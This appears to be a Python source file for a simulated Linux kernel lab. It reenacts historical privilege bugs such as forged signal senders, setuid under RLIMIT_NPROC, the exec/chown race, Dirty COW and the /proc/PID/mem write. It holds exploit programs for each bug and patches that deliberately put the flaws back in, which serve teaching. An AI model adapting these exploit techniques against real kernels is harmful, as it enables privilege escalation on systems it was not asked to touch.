"""Faults of who may do what: forged senders, users that stay root, files that change their owner."""

from __future__ import annotations

import struct
from typing import TYPE_CHECKING, Final

from procession.include.linux.signal import SI_TKILL
from procession.labs.lab import USER, Lab
from procession.labs.patch import Patch

if TYPE_CHECKING:
    from procession.arch.python.sys import Sys

__all__ = ("LABS",)


# A forged sender.


async def _forger(linux: Sys, victim: int) -> None:
    info = struct.pack("<iiiiiI", linux.SIGUSR1, 0, SI_TKILL, 0, 1, 0).ljust(128, b"\0")
    try:
        await linux.rt_sigqueueinfo(victim, linux.SIGUSR1, info)
    except PermissionError:
        await linux.kill(victim, linux.SIGUSR1)


async def _forged(linux: Sys) -> None:
    await linux.sigprocmask(linux.SIG_BLOCK, {linux.SIGUSR1})
    pid = await linux.clone(_forger, await linux.getpid())
    info = await linux.sigwaitinfo({linux.SIGUSR1})
    if info.si_pid == pid:
        await linux.print("right: the sender is who the kernel says it is")
    else:
        await linux.print(f"wrong: {pid} has sent it, and {info.si_pid} is what the kernel lets it say")


# A user that stays root.


async def _job(linux: Sys, until: int) -> None:
    await linux.setresuid(USER, USER, USER)
    await linux.read(until, 1)


async def _worker(linux: Sys) -> None:
    await linux.setrlimit(linux.RLIMIT_NPROC, (1, 1))
    try:
        await linux.setuid(USER)
    except BlockingIOError:
        pass  # as many programs do: what should fail, for root?
    if await linux.geteuid() == 0:
        await linux.print("wrong: the user's work is done by root")
    else:
        await linux.print("right: the user's work is done by the user")


async def _nproc(linux: Sys) -> None:
    until, end = await linux.pipe()
    await linux.clone(_job, until)
    await linux.sleep(0.01)
    await linux.clone(_worker)
    await linux.sleep(0.01)
    await linux.write(end, b"!")


# A file that changes its owner while it is executed.


async def _tool(linux: Sys) -> None:
    if await linux.geteuid() == 0:
        await linux.print("wrong: a user's program runs as root")
    else:
        await linux.print("right: the program runs as the user")


async def _user_executes(linux: Sys) -> None:
    await linux.setresuid(USER, USER, USER)
    await linux.execve("/bin/tool", ["tool"])


async def _chown(linux: Sys) -> None:
    await linux.chown("/bin/tool", USER, USER)
    await linux.chmod("/bin/tool", 0o4755)
    await linux.clone(_user_executes)
    await linux.chown("/bin/tool", 0, 0)  # which takes the set-user-ID bit away
    await linux.wait()


# Memory as a file, across exec.

CODE: Final = 0x10000000
AREA: Final = 0x20000000


def _message(control: bytes) -> bytes:
    """Return struct msghdr, struct iovec, a byte and the control message, as they lie at AREA."""
    iov, data, at = AREA + 56, AREA + 72, AREA + 80
    header = struct.pack("<QIIQQQQII", 0, 0, 0, iov, 1, at, len(control), 0, 0)
    return header + struct.pack("<QQ", data, 1) + b"!".ljust(8, b"\0") + control


def _descriptor(fd: int) -> bytes:
    return struct.pack("<QIIii", 20, 1, 1, fd, 0)  # SOL_SOCKET, SCM_RIGHTS


async def _opener(linux: Sys) -> None:
    await linux.mmap(AREA, 4096, flags=linux.MAP_PRIVATE | linux.MAP_ANONYMOUS | linux.MAP_FIXED)
    fd = await linux.open(f"/proc/{linux.argv[1]}/mem", linux.O_RDWR)
    await linux.poke(AREA, _message(_descriptor(fd)))
    await linux.sendmsg(int(linux.argv[2]), AREA, 0)


async def _attacker(linux: Sys) -> None:
    await linux.mmap(AREA, 4096, flags=linux.MAP_PRIVATE | linux.MAP_ANONYMOUS | linux.MAP_FIXED)
    mine, other = await linux.socketpair()
    if await linux.fork() == 0:
        await linux.execve("/bin/opener", ["opener", str(await linux.getppid()), str(other)])
    await linux.poke(AREA, _message(_descriptor(0)))
    await linux.recvmsg(mine, AREA, 0)
    (fd,) = struct.unpack("<i", await linux.peek(AREA + 80 + 16, 4))
    await linux.lseek(fd, CODE)
    await linux.dup2(fd, 2)
    await linux.execve("/bin/su", ["su", "attacker's code"])


async def _su(linux: Sys) -> None:
    await linux.mmap(CODE, 4096, flags=linux.MAP_PRIVATE | linux.MAP_ANONYMOUS | linux.MAP_FIXED)
    await linux.poke(CODE, b"root's own code")
    try:
        await linux.write(2, linux.argv[1])  # no such user
    except OSError:
        pass
    if await linux.peek(CODE, 15) == b"root's own code":
        await linux.print("right: root's program has its own code")
    else:
        await linux.print("wrong: root's program runs", (await linux.peek(CODE, 15)).decode())


async def _mem(linux: Sys) -> None:
    await linux.chmod("/bin/su", 0o4755)
    if await linux.fork() == 0:
        await linux.setresuid(USER, USER, USER)
        await linux.execve("/bin/attacker", ["attacker"])
    await linux.wait()


# A file that may not be written.


async def _unmaps(linux: Sys, address: int) -> None:
    await linux.madvise(address, 4096, linux.MADV_DONTNEED)
    await linux.pause()


async def _writes(linux: Sys) -> None:
    await linux.setresuid(USER, USER, USER)
    await linux.execve("/bin/writer", ["writer"])


async def _writer(linux: Sys) -> None:
    fd = await linux.open("/etc/passwd", linux.O_RDONLY)
    address = await linux.mmap(prot=linux.PROT_READ, flags=linux.MAP_PRIVATE, fd=fd)
    mem = await linux.open("/proc/self/mem", linux.O_RDWR)
    await linux.clone(_unmaps, address, flags=linux.CLONE_VM | linux.CLONE_SIGHAND | linux.CLONE_THREAD)
    await linux.pwrite(mem, b"user", address)  # to its own copy
    await linux.exit_group(0)


async def _dirty_cow(linux: Sys) -> None:
    await linux.mkdir("/etc", 0o755)
    await linux.write_file("/etc/passwd", b"root::0:0", 0o644)
    await linux.clone(_writes)
    await linux.wait()
    now = await linux.read_file("/etc/passwd")
    if now == b"root::0:0":
        await linux.print("right: the file is as root has left it")
    else:
        await linux.print("wrong: a user has written to root's file:", now.decode())


LABS: Final = (
    Lab(
        "forged-sender",
        2011,
        "A program says of its signal that init has sent it",
        "da48524eb206, CVE-2011-1182",
        "rt_sigqueueinfo takes a whole siginfo from the program. Codes of the kernel's own were refused, but not "
        "SI_TKILL, which tgkill uses: whoever trusted such a signal's si_pid and si_uid could be told anything.",
        _forged,
        mutation=(
            Patch(
                "kernel.signal_syscalls:_check_user_code",
                "if info.code >= 0 or info.code == SI_TKILL:",
                "if info.code >= 0:",
            ),
        ),
    ),
    Lab(
        "setuid-nproc",
        2011,
        "setuid fails for a user with many processes, and the caller stays root",
        "72fa59970f86",
        "setuid could fail with EAGAIN when the new user had as many processes as RLIMIT_NPROC lets it have. "
        "Programs that run as root do not expect setuid to fail, and did the user's work as root. Since 3.1 the "
        "next exec fails.",
        _nproc,
        mutation=(
            Patch(
                "kernel.sys_ids:set_user",
                "current.flags |= PF_NPROC_EXCEEDED",
                'raise LinuxError(Errno.EAGAIN, "RLIMIT_NPROC")',
            ),
        ),
    ),
    Lab(
        "exec-chown",
        2015,
        "A user's set-user-ID program that is given to root is executed as root",
        "8b01fc86b9f4, CVE-2015-3339",
        "Exec reads the mode and the owner of a file one after the other. A chown to root between the two, which "
        "takes the set-user-ID bit away, is seen half: the bit is that of before, the owner is root. Since then "
        "both are read under the inode's lock. Exec may lose its CPU between them here.",
        _chown,
        in_32=True,
        points=(
            Patch("fs.exec:prepare_binprm", "exec_cred.bprm_fill_uid(", "await exec_cred.bprm_fill_uid("),
            Patch("fs.exec_cred:bprm_fill_uid", "def bprm_fill_uid(", "async def bprm_fill_uid("),
            Patch(
                "fs.exec_cred:bprm_fill_uid",
                "    mode = inode.i_mode\n",
                "    from procession.labs import points\n"
                "    mode = inode.i_mode\n"
                "    await points.may_lose_cpu(current)\n"
                "    uid, gid = inode.i_uid, inode.i_gid\n",
            ),
            Patch("fs.exec_cred:bprm_fill_uid", "new.euid = inode.i_uid", "new.euid = uid"),
            Patch("fs.exec_cred:bprm_fill_uid", "new.egid = inode.i_gid", "new.egid = gid"),
        ),
        mutation=(
            Patch(
                "fs.exec_cred:bprm_fill_uid",
                "    await points.may_lose_cpu(current)\n    uid, gid = inode.i_uid, inode.i_gid\n",
                "    uid, gid = inode.i_uid, inode.i_gid\n    await points.may_lose_cpu(current)\n",
            ),
        ),
        programs={"/bin/tool": _tool},
    ),
    Lab(
        "dirty-cow",
        2016,
        "A user writes to a file that it may only read",
        "19be0eaffa3a, CVE-2016-5195",
        "Who writes to a private mapping past its protection, by ptrace or /proc/PID/mem, gets a copy of the page "
        "first; then the page is looked up as for reading, since it is known to be a copy. If another thread "
        "throws the copy away between the two (MADV_DONTNEED), what is found is the file's own page, and the file "
        "is written to. Since 4.9 what is found has to be a copy. The write may lose its CPU between the two "
        "here.",
        _dirty_cow,
        in_32=True,
        points=(
            Patch(
                "fs.proc.mem:MemFile.write",
                "    return self._transfer(current, buf, count, pos, write=True)\n",
                "    from procession.labs import points\n"
                "    data = uaccess.copy_from_user(current, buf, count)\n"
                "    return await points.write_mem(current, self.mm, pos, data)\n",
            ),
        ),
        mutation=(Patch("fs.proc.mem:MemFile.write", "points.write_mem(", "points.write_mem_cow("),),
        programs={"/bin/writer": _writer},
    ),
    Lab(
        "proc-mem",
        2012,
        "Root's program writes an attacker's text over its own code",
        "e268337dfe26, CVE-2012-0056",
        "/proc/PID/mem looked at every access whether it was one's own memory, and whether one had executed as "
        "many programs as who opened the file. An attacker opened it in a child that had executed once, made it "
        "the standard error of a set-user-ID program that it executed itself, and let that one complain. 3.2.0 "
        "and 3.2.1 have it; from 3.2.2 on, and so here, the file is the memory that was there when it was opened.",
        _mem,
        until="3.2.2",
        mutation=(
            Patch(
                "fs.proc.mem:MemInode.open",
                "    mm = fork_mm.get_task_mm(task)\n"
                "    if (\n"
                "        mm is not None\n"
                "        and mm is not current.mm\n"
                "        and not ptrace_access.ptrace_may_access(current, task, ptrace_access.PTRACE_MODE_ATTACH)\n"
                "    ):\n"
                "        fork_mm.mmput(current.kernel, mm)\n"
                '        raise LinuxError(Errno.EACCES, "not to be traced by the opener")\n'
                "    out = MemFile(path, flags, mode)\n"
                "    out.mm = mm\n",
                "    out = MemFile(path, flags, mode)\n    out.private_data = current.self_exec_id\n",
            ),
            Patch(
                "fs.proc.mem:MemFile._transfer",
                "    mm = self.mm\n    if mm is None:\n        return 0\n",
                "    if self.inode.task() is not current or self.private_data != current.self_exec_id:\n"
                '        raise LinuxError(Errno.EPERM, "not its own memory")\n'
                "    mm = current.mm\n",
            ),
        ),
        programs={"/bin/attacker": _attacker, "/bin/opener": _opener, "/bin/su": _su},
    ),
)
